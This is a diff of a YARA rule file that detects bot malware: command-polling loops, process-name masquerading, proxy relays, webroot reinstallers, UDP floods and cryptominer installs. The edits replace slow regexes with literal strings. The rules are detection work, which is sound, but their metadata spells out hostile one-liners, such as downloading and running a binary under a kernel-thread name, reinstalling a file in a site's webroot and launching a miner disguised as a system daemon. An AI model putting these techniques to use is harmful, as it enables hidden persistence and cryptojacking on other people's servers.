@@ -3477,8 +3477,8 @@ rule bot_tcl_socket_exec : bot
         seen = "train9"
     strings:
         $sk = /\[\s{0,2}socket\s{1,4}(-async\s{1,4}|-server\s{1,4}\S{1,40}\s{1,4})?[$\w"]/
-        $g = /\b(gets|read)\s{1,4}\$\w{1,30}(\s{1,4}\w{1,30})?\s{0,2}\]/
-        $x = /\bexec\s{1,4}(--\s{1,4})?(\{\*\}\s{0,2}\$|(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh\s{1,4}-c\s{1,4}\$|\$)|\bopen\s{1,4}"\|\s{0,2}\$|\bopen\s{1,4}\[\s{0,2}concat\s{1,4}"?\|/
+        $g = /\b(gets|read) \$\w{1,30}(\s{1,4}\w{1,30})?\s{0,2}\]/
+        $x = /\bexec (--\s{1,4})?(\{\*\}\s{0,2}\$|(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh\s{1,4}-c\s{1,4}\$|\$)|\bopen "\|\s{0,2}\$|\bopen \[\s{0,2}concat\s{1,4}"?\|/
     condition:
         filesize < 1MB and not hs_doc_file and $sk and
         for any i in (1..#g) : ( $x in (@g[i] .. @g[i] + 500) )
@@ -3503,11 +3503,21 @@ rule bot_form_login_guesser : bot hacktool
         $pw3 = /\b(pass|pwd|passwd|password)\s{0,2}=>\s{0,2}\$\w{1,30}/
         $pw4 = /-u\s{1,4}["'][^"'\s:]{1,30}:\$\{?\w{1,30}/
         // a list walked
-        $l1 = /\bwhile\s{1,4}read\b|\bforeach\s{0,2}\(|\bfor\s{1,4}\w{1,30}\s{1,4}in\s|\bfor\s{0,2}\(?\s{0,2}my\s{1,4}\$|\bthreading\.Thread\b/
+        // (literals: a regex on foreach/for would be tried on every PHP loop)
+        $l1 = "while read" ascii
+        $l2 = "foreach" ascii
+        $l3 = "for my $" ascii
+        $l4 = "threading.Thread" ascii
+        $l5 = "; do" ascii
         // the hits kept
-        $h1 = /\bFILE_APPEND\b|>>\s{0,2}["']?[\w.$\/{}-]{1,60}|\bopen\s{0,2}\([^\n)]{1,80},\s{0,2}['"]a\+?['"]|\bopen\s{0,2}\(?\s{0,2}(my\s{1,4})?\$?\w{0,30}\s{0,2},\s{0,2}['"]>>/
+        $h1 = "FILE_APPEND" ascii
+        $h2 = ">> " ascii
+        $h3 = "'>>'" ascii
+        $h4 = "\">>\"" ascii
+        $h5 = ", 'a')" ascii
+        $h6 = ", \"a\")" ascii
     condition:
-        filesize < 512KB and not hs_doc_file and $lg and any of ($pw*) and $l1 and $h1
+        filesize < 512KB and not hs_doc_file and $lg and any of ($pw*) and any of ($l*) and any of ($h*)
 }
 
 /* A command queue through files: an endless loop polling a file or
@@ -3523,15 +3533,26 @@ rule bot_file_drop_command_loop : bot
         technique = "while :; do [ -s $D/in ] && bash $D/in > $D/out; : > $D/in; sleep 3; done | while (1) { @c = <$h>; unlink $f; qx{$c} } | while True: cmd = b64decode(open(p).read()); os.unlink(p); subprocess.run(cmd, shell=True)"
         seen = "train9"
     strings:
-        $hd = /["'=\s](\/tmp|\/var\/tmp|\/dev\/shm)\/(\.[\w-]{1,40}\/)?\.[\w.-]{1,40}/
-        $lp = /\bwhile\s{0,2}(\(\s{0,2}1\s{0,2}\)|True\s{0,2}:|:\s{0,2};|true\s{0,2};|\[\s{0,2}1\s{0,2}\])/
-        $sl = /\b(sleep|usleep|time\.sleep)\b/
-        $x1 = /\bqx\s{0,2}[{(\/|]\s{0,2}\$\w|`\s{0,2}\$\w{1,30}[^`\n]{0,20}`|\bsystem\s{0,2}\(?\s{0,2}\$\w/
+        // (literals: the words are common in PHP, regexes on them were costly)
+        $hd1 = "/tmp/." ascii
+        $hd2 = "/dev/shm/." ascii
+        $lp1 = "while (1)" ascii
+        $lp2 = "while(1)" ascii
+        $lp3 = "while True:" ascii
+        $lp4 = "while :;" ascii
+        $lp5 = "while true;" ascii
+        $lp6 = "for (;;)" ascii
+        $sl = "sleep" ascii
+        $x1 = /\bqx\s{0,2}[{(\/|]\s{0,2}\$\w|\bsystem\s{0,2}\(?\s{0,2}\$\w/
         $x2 = /\bsubprocess\.\w{1,16}\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2},[^\n)]{0,80}shell\s{0,2}=\s{0,2}True|\bos\.(system|popen)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}\)/
-        $x3 = /(^|[\n;&|]|then|do)\s{0,8}(ba|da|z|k)?sh\s{1,4}["']?\$\{?\w{1,30}\}?\/[\w.-]{1,40}["']?\s{0,4}(>|2>|<|;|\n|&)/
-        $rm = /\bunlink\b|\bos\.(unlink|remove)\b|(^|[\n;&]|then|do)\s{0,8}:\s{0,2}>\s{0,2}["']?\$|\brm\s{1,4}-f\s{1,4}["']?\$|\btruncate\b/
+        $x3 = /sh ["']?\$\{?\w{1,30}\}?\/[\w.-]{1,40}["']?\s{0,4}(>|2>|<|;|\n|&)/
+        $rm1 = "unlink" ascii
+        $rm2 = "os.remove" ascii
+        $rm3 = ": >" ascii
+        $rm4 = "rm -f $" ascii
+        $rm5 = "truncate" ascii
     condition:
-        filesize < 256KB and not hs_doc_file and $hd and $lp and $sl and any of ($x*) and $rm
+        filesize < 256KB and not hs_doc_file and any of ($hd*) and any of ($lp*) and $sl and any of ($x*) and any of ($rm*)
 }
 
 /* A download started under a daemon's name: bash's exec -a (or an argv0
@@ -3545,7 +3566,7 @@ rule bot_exec_argv0_masquerade : bot
         technique = "curl -s URL -o .b && exec -a '[kworker/u8:2]' ./.b -c H:443"
         seen = "train9"
     strings:
-        $ea = /\bexec\s{1,4}-a\s{1,4}["']?(\[|[\w\/.-]{0,30}(httpd|sshd|php-fpm|nginx|apache2|crond?|kworker|kthreadd|systemd|dbus-daemon|rsyslogd|mysqld|postfix|exim|dovecot|kswapd|-bash))[^\n]{0,80}\s(\.{1,2}\/\.|["']?(\/tmp|\/var\/tmp|\/dev\/shm|\$HOME|~)\/[^\n\s]{0,60}\/\.|["']?\.\/\.)/
+        $ea = /\bexec -a\s{1,4}["']?(\[|[\w\/.-]{0,30}(httpd|sshd|php-fpm|nginx|apache2|crond?|kworker|kthreadd|systemd|dbus-daemon|rsyslogd|mysqld|postfix|exim|dovecot|kswapd|-bash))[^\n]{0,80}\s(\.{1,2}\/\.|["']?(\/tmp|\/var\/tmp|\/dev\/shm|\$HOME|~)\/[^\n\s]{0,60}\/\.|["']?\.\/\.)/
         $f = /\b(curl|wget)\s/
     condition:
         filesize < 256KB and not hs_doc_file and $ea and $f
@@ -3565,15 +3586,23 @@ rule bot_proxy_relay_server : bot
         technique = "accept; unpack('CCnN', hdr) / struct.unpack('>BBH') / preg_match('/^CONNECT (h):(p)/'); connect(dst); send 0x5a / '200 Connection established'; select/stream_select relay"
         seen = "train9"
     strings:
-        $ac = /\baccept\b|\bstream_socket_accept\s{0,2}\(|\bsocketserver\.\w{0,12}TCPServer\b|\bBaseRequestHandler\b|\bsocket_accept\s{0,2}\(/
+        $ac1 = "->accept" ascii
+        $ac2 = ".accept(" ascii
+        $ac3 = "socket_accept(" ascii
+        $ac4 = "TCPServer" ascii
+        $ac5 = "BaseRequestHandler" ascii
         $h1 = /\bunpack\s{0,2}\(\s{0,2}['"](>|!)?(CCnN|CCn|BBH|BBHI|BBH4s)['"]/
         $h2 = /['"\/{]\^?CONNECT\s{1,2}[(\[\\]|(==|\beq)\s{0,2}b?['"]CONNECT['"]|\bstartswith\s{0,2}\(\s{0,2}b?['"]CONNECT\b/
-        $rp1 = /\b(0|0x00)\s{0,2},\s{0,2}(90|0x5a)\b|\\x00\\x5a|\\x5a\\x00/
+        $rp1 = "0, 90" ascii
+        $rp3 = "0,90" ascii
+        $rp4 = "\\x00\\x5a" ascii
+        $rp5 = "\\x5a\\x00" ascii
+        $rp6 = "0x5a" ascii
         $rp2 = /200 Connection established/ nocase
         $up = /\bstream_socket_client\s{0,2}\(|\bcreate_connection\s{0,2}\(|PeerAddr\s{0,2}=>|\.connect\s{0,2}\(|\bsocket_connect\s{0,2}\(|\bfsockopen\s{0,2}\(/
         $sel = /\bselect\.select\s{0,2}\(|\bIO::Select\b|\bstream_select\s{0,2}\(|\bsocket_select\s{0,2}\(|->\s{0,2}can_read\b/
     condition:
-        filesize < 200KB and not hs_doc_file and $ac and any of ($h*) and any of ($rp*) and $up and $sel
+        filesize < 200KB and not hs_doc_file and any of ($ac*) and any of ($h*) and any of ($rp*) and $up and $sel
 }
 
 /* A file put back in the docroot: an endless loop that checks whether a
@@ -3588,14 +3617,20 @@ rule bot_webroot_reinstaller_loop : bot
         technique = "while true; do if [ ! -f \"$T\" ] || ! grep -q MARK \"$T\"; then (curl -s U || wget -qO- U) > \"$T\"; chmod 444 \"$T\"; touch -r version.php \"$T\"; fi; sleep 300; done"
         seen = "train8"
     strings:
-        $lp = /\bwhile\s{0,2}(\(\s{0,2}1\s{0,2}\)|True\s{0,2}:|:\s{0,2};|true\s{0,2};|\[\s{0,2}1\s{0,2}\])|\buntil\s{1,4}false\b/
+        $lp1 = "while true" ascii
+        $lp2 = "while :" ascii
+        $lp3 = "until false" ascii
+        $lp4 = "while [ 1 ]" ascii
         $sl = /\bsleep\s{1,4}\d/
-        $ck = /\[\s{1,2}!\s{1,2}-[fes]\s|!\s{1,2}grep\s{1,4}-q|\bif\s{1,4}!\s{0,2}\[/
+        $ck1 = "[ ! -f" ascii
+        $ck2 = "[ ! -s" ascii
+        $ck3 = "[ ! -e" ascii
+        $ck4 = "! grep -q" ascii
         $fe = /\b(curl|wget)\s[^\n]{0,200}(>|-o|-O)\s{0,2}["']?\$\{?\w{1,30}/
         $ro = /\bchmod\s{1,4}(0?4[0-4]4|0?400|0?555|a-w|-w|u-w)\s|\btouch\s{1,4}-r\s/
         $web = /public_html|wp-includes|wp-content|wp-admin|httpdocs|htdocs|\/www\//
     condition:
-        filesize < 128KB and not hs_doc_file and $lp and $sl and $ck and $fe and $ro and $web
+        filesize < 128KB and not hs_doc_file and any of ($lp*) and $sl and any of ($ck*) and $fe and $ro and $web
 }
 
 /* A shell flooder: random bytes written to bash's /dev/udp (or /dev/tcp)
@@ -3610,9 +3645,9 @@ rule bot_shell_dev_udp_flood : bot
         seen = "train9"
     strings:
         $w = /\/dev\/urandom[^\n]{0,60}>\s{0,2}\/dev\/(udp|tcp)\/["']?\$/
-        $lp = /\b(while|until|for)\s/
+        $lp1 = "done" ascii
     condition:
-        filesize < 128KB and not hs_doc_file and $w and $lp
+        filesize < 128KB and not hs_doc_file and $w and $lp1
 }
 
 /* A miner's config file where the miner was unpacked: an xmrig-style JSON
@@ -3627,8 +3662,8 @@ rule bot_miner_config_file : bot
         technique = "config.json: {\"cpu\": {\"max-threads-hint\": 100}, \"pools\": [{\"url\": \"pool:3333\", \"user\": \"4...95 chars\"}], \"donate-level\": 0}"
         seen = "train9"
     strings:
-        $po = /["']pools["']\s{0,2}:\s{0,2}\[\s{0,16}\{[^\]]{0,300}["']url["']\s{0,2}:\s{0,2}["'][\w.+\/:-]{1,80}:[0-9]{2,5}["']/
-        $u = /["']user["']\s{0,2}:\s{0,2}["'][0-9A-Za-z]{60}/
+        $po = /"pools"\s{0,2}:\s{0,2}\[\s{0,16}\{[^\]]{0,300}"url"\s{0,2}:\s{0,2}"[\w.+\/:-]{1,80}:[0-9]{2,5}"/
+        $u = /"user"\s{0,2}:\s{0,2}"[0-9A-Za-z]{60}/
         $k = /["'](donate-level|max-threads-hint|randomx|donate-over-proxy|cpu-priority)["']/
     condition:
         filesize < 64KB and $po and $u and $k
@@ -3646,8 +3681,8 @@ rule bot_miner_archive_install : bot
         technique = "curl -o x.tgz U && tar xzf x.tgz; mv xmr* systemd-journald; nohup ./systemd-journald -c config.json & | urlretrieve(U); tarfile.open().extractall(); cfg['cpu']['max-threads-hint'] = ...; Popen([bin, '--config', cfg], start_new_session=True)"
         seen = "train9"
     strings:
-        $f = /\b(curl|wget|urlretrieve|urlopen|getstore|file_get_contents|copy)\b[^\n]{0,200}\.(tgz|tar\.gz|tar\.xz|zip)\b/
-        $t = /\btar\s{1,4}-?[a-zA-Z]{0,4}x|\btarfile\.open\b|\bextractall\s{0,2}\(|\bunzip\s|\bPharData\b|\bArchive::Tar\b/
+        $f = /\b(curl|wget|urlretrieve|urlopen|getstore)\b[^\n]{0,200}\.(tgz|tar\.gz|tar\.xz|zip)\b/
+        $t = /\btar -?[a-zA-Z]{0,4}x|\btarfile\.open\b|\bextractall\s{0,2}\(|\bunzip |\bPharData\b|\bArchive::Tar\b/
         $c = /(\s-c\s{1,4}|--config[= ]|['"]--config['"]\s{0,2},\s{0,2}|['"]-c['"]\s{0,2},\s{0,2})[^\n]{0,60}config\.json/
         $m1 = /\bmv\s{1,4}["']?xmr/
         $m2 = /max-threads-hint|donate-level|\bxmrig\b/
